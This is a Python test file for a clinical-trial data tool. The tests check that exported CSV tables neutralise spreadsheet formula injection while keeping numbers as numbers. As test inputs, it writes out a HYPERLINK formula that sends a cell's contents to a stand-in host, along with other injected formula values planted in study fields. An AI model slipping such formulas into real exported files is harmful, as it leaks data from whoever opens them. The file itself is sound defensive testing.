"""No table that is written runs anything when somebody opens it in a spreadsheet."""

import csv
import io
import json
import re
from pathlib import Path

import polars
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from sdtm_story import package, write_package

import equipoise
from equipoise.endpoints.policies import find_policy
from equipoise.exchange.cdisc.datasets import text_of_dataset
from equipoise.exchange.response_table import derive_response_table
from equipoise.exchange.tables import write_table
from equipoise.surface.packages import derive

RECIST = find_policy("recist_1_1")
STARTS = "=+-@\t\r\n"
FORMULA = '=HYPERLINK("http://x/?"&A1,"open")'


def cells(text):
    return [cell for row in list(csv.reader(io.StringIO(text, newline="")))[1:] for cell in row]


def runs(cell):
    """What a spreadsheet would do with a cell: OWASP's list, less what is a number."""
    return (
        cell[:1] in STARTS and cell != "" and not re.fullmatch(r"[+-]?[0-9.]+(e[+-]?[0-9]+)?", cell)
    )


@given(st.text(st.sampled_from(STARTS + "'1.e A,\"\uff1d")))
@example("-1")
@example("'=1")
def test_no_cell_runs_and_each_can_be_read_back(text):
    cell, _ = cells(write_table(["x", "y"], [[text, None]]))

    assert not runs(cell)
    added = cell.startswith("'") and re.match("'+[=+@\t\r\n\uff1d\uff0b\uff0d\uff20-]", cell)
    assert (cell[1:] if added else cell) == text


@pytest.mark.parametrize("number", ["-1", "-12.5", "+3", "-.5", "-1e-3", -4, -0.25, "2024-01-01"])
def test_a_number_stays_a_number(number):
    assert cells(write_table(["x"], [[number]])) == [str(number)]


@pytest.mark.parametrize("text", ["-", "- none", "-1+1", "+49 30", "--1", "-1,5", "-٣", "-nan"])
def test_what_only_begins_as_a_number_does_not(text):
    assert cells(write_table(["x"], [[text]])) == ["'" + text]


def test_a_package_may_say_what_it_likes(tmp_path):
    domains = package()
    for rows in domains.values():
        for row in rows:
            row["STUDYID"] = FORMULA
            row["USUBJID"] = f"-{row['USUBJID']}"
            for name in ("ARM", "VISIT", "TRLNKID", "TULNKID", "RSEVAL", "TUEVAL", "TREVAL"):
                if name in row:
                    row[name] = f"+{row[name]}+0"
    domains["TR"][0]["TRSTRESU"] = "@unit"
    domains["RS"][0]["RSDTC"] = "=1+1"
    files = derive(write_package(tmp_path, domains), RECIST).files

    tables = {name: content for name, content in files.items() if name.endswith(".csv")}
    assert set(tables) == {"adrs.csv", "adtte.csv", "discrepancies.csv", "problems.csv"}
    told = [cell for content in tables.values() for cell in cells(content)]
    assert not [cell for cell in told if runs(cell)]
    assert {f"'{FORMULA}", "-001", "'+A+0"} <= set(told)
    assert polars.read_parquet(files["adrs.parquet"])["STUDYID"].unique().to_list() == [FORMULA]


def test_a_table_of_responses_too():
    table = "USUBJID,RANDDT,ADT,AVALC\n=1+1,2024-01-01,2024-03-01,SD\n-7,2024-01-01,2024-03-01,PD\n"
    told = cells(derive_response_table(table, RECIST))

    assert {"'=1+1", "-7"} <= set(told)
    assert not [cell for cell in told if runs(cell)]


def test_what_ends_a_line_stays_within_its_cell(tmp_path):
    path = tmp_path / "adtte.ndjson"
    head = {"datasetJSONVersion": "1.1.0", "columns": [{"name": "ARM"}, {"name": "AVAL"}]}
    path.write_text("\n".join(map(json.dumps, [head, ["a\rb\n=c", "1"]])))
    assert cells(text_of_dataset(path)) == ["a\rb\n=c", "1"]


def test_tables_are_written_in_one_place():
    """A `plain_table`, with every text as it is, is read by us and never kept."""
    sources = Path(equipoise.__file__).parent
    writers = re.compile(
        r"csv\.(Dict)?[wW]riter|write_csv\(|write_excel\(|\.to_csv\(|plain_table\("
    )
    found = {
        path.relative_to(sources).as_posix()
        for path in sources.rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
    }
    assert found == {"exchange/tables.py", "exchange/cdisc/datasets.py"}
